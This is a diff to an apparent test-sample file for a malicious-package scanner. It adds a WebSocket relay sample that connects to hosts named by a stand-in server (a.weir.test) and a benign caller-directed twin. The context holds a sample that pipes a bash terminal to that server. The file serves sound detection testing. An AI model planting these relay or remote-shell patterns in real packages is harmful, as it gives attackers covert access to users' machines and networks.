@@ -4,6 +4,13 @@ import { at, hide, imported, installed, quiet, wheel } from '../samples-kit.ts';
 export const samples: Samples = {
   malicious: [
     {
+      name: 'connections to where a server says',
+      files: imported(
+        `const net = require('net'), WebSocket = require('ws');\nconst link = new WebSocket('wss://a.weir.test/exit');\nlink.on('message', (raw) => {\n  const { host, port } = JSON.parse(raw);\n  net.connect(port, host).on('data', (part) => link.send(part));\n});\n`,
+      ),
+      expected: [at('relay', 'high', 'index.js', 5)],
+    },
+    {
       name: 'a function that joins a terminal with a server of the package',
       files: imported(
         `const pty = require('node-pty'), WebSocket = require('ws');\nexports.record = () => {\n  const link = new WebSocket('wss://a.weir.test/live');\n  const term = pty.spawn('bash', []);\n  link.on('message', (text) => term.write(text));\n};\n`,
@@ -47,6 +54,12 @@ export const samples: Samples = {
     },
   ],
   benign: [
+    quiet(
+      'connections to where a caller says',
+      imported(
+        `const net = require('net'), WebSocket = require('ws');\nexports.join = (url) => {\n  const link = new WebSocket(url);\n  link.on('message', (raw) => {\n    const { host, port } = JSON.parse(raw);\n    net.connect(port, host).on('data', (part) => link.send(part));\n  });\n};\n`,
+      ),
+    ),
     quiet(
       'Python: a client of a server',
       wheel(
